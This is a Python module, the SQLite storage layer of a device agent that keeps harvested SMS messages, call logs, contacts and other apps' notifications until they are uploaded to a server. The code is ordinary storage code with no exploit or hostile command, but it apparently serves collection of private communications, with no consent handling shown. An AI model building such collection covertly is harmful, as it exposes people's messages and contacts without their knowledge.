"""Local durable storage for the device agent.

This module provides:
- RecordStore: SQLite-based record store, one table per RecordKind
- DeviceRegistration: the process-wide registration record

Architecture:
    Every record row carries a ``synced`` flag. Extraction appends rows
    with synced=0; the sync orchestrator flips the flag once the server
    confirmed an upload. Duplicates of a natural key are ignored on insert,
    so re-extracting overlapping data is harmless.

    All tables share one connection. An RLock serializes physical access,
    so syncs of different kinds running on different threads never
    interleave writes.

    Storage errors (sqlite3.Error) are not caught here: they propagate to
    the calling operation.
"""

from __future__ import annotations

import logging
import sqlite3
import threading
import time
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from deviceagent.agent.records import (
    CallRecord,
    ContactRecord,
    MessageRecord,
    NotificationRecord,
    Record,
)
from deviceagent.core.types import RecordKind

logger = logging.getLogger(__name__)

# Maximum number of bound parameters per statement (SQLite default limit)
MAX_SQL_VARIABLES = 900

_TABLES = {
    RecordKind.MESSAGE: "messages",
    RecordKind.CALL: "calls",
    RecordKind.CONTACT: "contacts",
    RecordKind.NOTIFICATION: "notifications",
}

_KEY_COLUMNS = {
    RecordKind.MESSAGE: "id",
    RecordKind.CALL: "id",
    RecordKind.CONTACT: "contact_id",
    RecordKind.NOTIFICATION: "id",
}

_ORDER_BY = {
    RecordKind.MESSAGE: "created_at ASC, id ASC",
    RecordKind.CALL: "created_at ASC, id ASC",
    RecordKind.CONTACT: "contact_id ASC",
    RecordKind.NOTIFICATION: "post_time ASC, id ASC",
}

_FROM_ROW = {
    RecordKind.MESSAGE: MessageRecord.from_row,
    RecordKind.CALL: CallRecord.from_row,
    RecordKind.CONTACT: ContactRecord.from_row,
    RecordKind.NOTIFICATION: NotificationRecord.from_row,
}


@dataclass
class DeviceRegistration:
    """Registration record of this device.

    Attributes:
        device_id: Stable device identifier (None until first derived).
        push_token: Current push token (None until known).
        registered: Last known registration status with the server.
        initialized: Whether first-run auto-registration already happened.
    """

    device_id: str | None = None
    push_token: str | None = None
    registered: bool = False
    initialized: bool = False


class RecordStore:
    """SQLite-based durable store for harvested records."""

    def __init__(self, db_path: Path) -> None:
        """Initialize the record store.

        Args:
            db_path: Path to SQLite database file.
        """
        self._db_path = Path(db_path)
        self._db_path.parent.mkdir(parents=True, exist_ok=True)

        # Lock for thread-safe database access
        self._lock = threading.RLock()

        self._conn = sqlite3.connect(
            str(self._db_path),
            check_same_thread=False,
            isolation_level=None,  # Autocommit mode
        )
        self._conn.row_factory = sqlite3.Row

        self._conn.execute("PRAGMA journal_mode=WAL")
        self._create_tables()

    def _create_tables(self) -> None:
        """Create database tables if they don't exist."""
        self._conn.executescript("""
            CREATE TABLE IF NOT EXISTS messages (
                id INTEGER PRIMARY KEY AUTOINCREMENT,
                address TEXT NOT NULL,
                body TEXT NOT NULL,
                type INTEGER NOT NULL,
                created_at INTEGER NOT NULL,
                synced INTEGER NOT NULL DEFAULT 0,
                UNIQUE (address, created_at, body)
            );

            CREATE TABLE IF NOT EXISTS calls (
                id INTEGER PRIMARY KEY AUTOINCREMENT,
                number TEXT NOT NULL,
                type INTEGER NOT NULL,
                created_at INTEGER NOT NULL,
                duration INTEGER NOT NULL,
                synced INTEGER NOT NULL DEFAULT 0,
                UNIQUE (number, created_at)
            );

            CREATE TABLE IF NOT EXISTS contacts (
                contact_id TEXT PRIMARY KEY,
                name TEXT NOT NULL,
                phone_numbers TEXT NOT NULL,
                last_updated INTEGER NOT NULL,
                synced INTEGER NOT NULL DEFAULT 0
            );

            CREATE TABLE IF NOT EXISTS notifications (
                id INTEGER PRIMARY KEY AUTOINCREMENT,
                package_name TEXT NOT NULL,
                title TEXT,
                text TEXT,
                post_time INTEGER NOT NULL,
                synced INTEGER NOT NULL DEFAULT 0
            );

            -- NULL titles must still collide on the natural key
            CREATE UNIQUE INDEX IF NOT EXISTS notifications_natural_key
                ON notifications (package_name, post_time, COALESCE(title, ''));

            CREATE INDEX IF NOT EXISTS messages_synced ON messages (synced);
            CREATE INDEX IF NOT EXISTS calls_synced ON calls (synced);

            -- Key-value agent state (registration, sync status)
            CREATE TABLE IF NOT EXISTS agent_state (
                key TEXT PRIMARY KEY,
                value TEXT
            );
        """)

    def close(self) -> None:
        """Close the database connection."""
        self._conn.close()

    @contextmanager
    def _transaction(self) -> Iterator[sqlite3.Connection]:
        """Run statements atomically under the store lock."""
        with self._lock:
            self._conn.execute("BEGIN IMMEDIATE")
            try:
                yield self._conn
            except BaseException:
                self._conn.execute("ROLLBACK")
                raise
            self._conn.execute("COMMIT")

    # === Record operations ===

    def append(self, records: Iterable[Record]) -> int:
        """Insert new records, ignoring duplicates of their natural key.

        Contacts are the exception: an existing contact is replaced (and
        marked unsynced again) when the new copy has a newer last_updated.

        Args:
            records: Records of any kind.

        Returns:
            Number of rows inserted or updated.
        """
        changed = 0
        with self._transaction() as conn:
            for record in records:
                changed += self._insert(conn, record)
        if changed:
            logger.debug("Appended %d records", changed)
        return changed

    def _insert(self, conn: sqlite3.Connection, record: Record) -> int:
        if isinstance(record, MessageRecord):
            cursor = conn.execute(
                "INSERT OR IGNORE INTO messages (address, body, type, created_at, synced) "
                "VALUES (?, ?, ?, ?, ?)",
                (record.address, record.body, record.type, record.created_at, int(record.synced)),
            )
        elif isinstance(record, CallRecord):
            cursor = conn.execute(
                "INSERT OR IGNORE INTO calls (number, type, created_at, duration, synced) "
                "VALUES (?, ?, ?, ?, ?)",
                (record.number, record.type, record.created_at, record.duration, int(record.synced)),
            )
        elif isinstance(record, ContactRecord):
            cursor = conn.execute(
                """
                INSERT INTO contacts (contact_id, name, phone_numbers, last_updated, synced)
                VALUES (?, ?, ?, ?, ?)
                ON CONFLICT (contact_id) DO UPDATE SET
                    name = excluded.name,
                    phone_numbers = excluded.phone_numbers,
                    last_updated = excluded.last_updated,
                    synced = 0
                WHERE excluded.last_updated > contacts.last_updated
                """,
                (
                    record.contact_id,
                    record.name,
                    record.phone_numbers,
                    record.last_updated,
                    int(record.synced),
                ),
            )
        elif isinstance(record, NotificationRecord):
            cursor = conn.execute(
                "INSERT OR IGNORE INTO notifications (package_name, title, text, post_time, synced) "
                "VALUES (?, ?, ?, ?, ?)",
                (record.package_name, record.title, record.text, record.post_time, int(record.synced)),
            )
        else:
            raise TypeError(f"Unsupported record type: {type(record).__name__}")
        return cursor.rowcount

    def unsynced(self, kind: RecordKind) -> list[Record]:
        """Get all records of a kind not yet confirmed uploaded.

        Message and call records are ordered by creation time.
        """
        with self._lock:
            rows = self._conn.execute(
                f"SELECT * FROM {_TABLES[kind]} WHERE synced = 0 ORDER BY {_ORDER_BY[kind]}"
            ).fetchall()
        from_row = _FROM_ROW[kind]
        return [from_row(row) for row in rows]

    def mark_synced(self, kind: RecordKind, ids: Sequence[Any]) -> int:
        """Flip the synced flag for exactly the given identifiers.

        Re-marking already synced records is a no-op.

        Returns:
            Number of rows whose flag changed.
        """
        return self._update_keys(
            kind, ids, f"UPDATE {_TABLES[kind]} SET synced = 1 WHERE synced = 0 AND {{where}}"
        )

    def delete(self, kind: RecordKind, ids: Sequence[Any]) -> int:
        """Delete records by identifier.

        Returns:
            Number of rows deleted.
        """
        return self._update_keys(kind, ids, f"DELETE FROM {_TABLES[kind]} WHERE {{where}}")

    def _update_keys(self, kind: RecordKind, ids: Sequence[Any], template: str) -> int:
        if not ids:
            return 0
        key = _KEY_COLUMNS[kind]
        changed = 0
        with self._transaction() as conn:
            for start in range(0, len(ids), MAX_SQL_VARIABLES):
                batch = list(ids[start : start + MAX_SQL_VARIABLES])
                placeholders = ", ".join("?" for _ in batch)
                sql = template.format(where=f"{key} IN ({placeholders})")
                changed += conn.execute(sql, batch).rowcount
        return changed

    def latest_watermark(self, kind: RecordKind) -> int | None:
        """Get the newest created_at among all stored records of a kind.

        Only message and call kinds are watermarked; other kinds return None.
        """
        if not kind.is_watermarked:
            return None
        with self._lock:
            row = self._conn.execute(
                f"SELECT MAX(created_at) AS latest FROM {_TABLES[kind]}"
            ).fetchone()
        return row["latest"] if row else None

    def notification_cursor(self) -> int | None:
        """Get the newest post_time ever pulled into the store.

        Notifications are deleted once uploaded, so the cursor is kept in
        agent state rather than derived from the table.
        """
        value = self.get_state("notification_cursor")
        return int(value) if value is not None else None

    def append_notifications(self, records: Sequence[NotificationRecord]) -> int:
        """Insert notifications and advance the cursor in one transaction."""
        if not records:
            return 0
        changed = 0
        latest = max(record.post_time for record in records)
        with self._transaction() as conn:
            for record in records:
                changed += self._insert(conn, record)
            cursor = self.notification_cursor()
            if cursor is None or latest > cursor:
                self.set_state("notification_cursor", str(latest))
        if changed:
            logger.debug("Appended %d notifications", changed)
        return changed

    def all_contacts(self) -> dict[str, ContactRecord]:
        """Get every stored contact keyed by contact_id."""
        with self._lock:
            rows = self._conn.execute("SELECT * FROM contacts").fetchall()
        return {row["contact_id"]: ContactRecord.from_row(row) for row in rows}

    def count(self, kind: RecordKind, synced: bool | None = None) -> int:
        """Count stored records of a kind, optionally filtered by sync flag."""
        sql = f"SELECT COUNT(*) AS n FROM {_TABLES[kind]}"
        params: tuple[Any, ...] = ()
        if synced is not None:
            sql += " WHERE synced = ?"
            params = (int(synced),)
        with self._lock:
            row = self._conn.execute(sql, params).fetchone()
        return int(row["n"])

    # === Agent state ===

    def get_state(self, key: str) -> str | None:
        """Get an agent state value."""
        with self._lock:
            row = self._conn.execute(
                "SELECT value FROM agent_state WHERE key = ?",
                (key,),
            ).fetchone()
        return row["value"] if row else None

    def set_state(self, key: str, value: str | None) -> None:
        """Set an agent state value (None deletes it)."""
        with self._lock:
            if value is None:
                self._conn.execute("DELETE FROM agent_state WHERE key = ?", (key,))
            else:
                self._conn.execute(
                    "INSERT OR REPLACE INTO agent_state (key, value) VALUES (?, ?)",
                    (key, value),
                )

    def registration(self) -> DeviceRegistration:
        """Load the device registration record."""
        return DeviceRegistration(
            device_id=self.get_state("device_id"),
            push_token=self.get_state("push_token"),
            registered=self.get_state("registered") == "1",
            initialized=self.get_state("initialized") == "1",
        )

    def save_registration(self, registration: DeviceRegistration) -> None:
        """Overwrite the device registration record."""
        with self._transaction():
            self.set_state("device_id", registration.device_id)
            self.set_state("push_token", registration.push_token)
            self.set_state("registered", "1" if registration.registered else "0")
            self.set_state("initialized", "1" if registration.initialized else "0")

    def set_sync_status(self, kind: RecordKind, status: str) -> None:
        """Record the outcome of the last sync attempt for a kind."""
        with self._transaction():
            self.set_state(f"last_sync_at:{kind.value}", str(time.time()))
            self.set_state(f"last_sync_status:{kind.value}", status)

    def sync_status(self, kind: RecordKind) -> tuple[float | None, str | None]:
        """Get (timestamp, status) of the last sync attempt for a kind."""
        at = self.get_state(f"last_sync_at:{kind.value}")
        return (float(at) if at else None, self.get_state(f"last_sync_status:{kind.value}"))
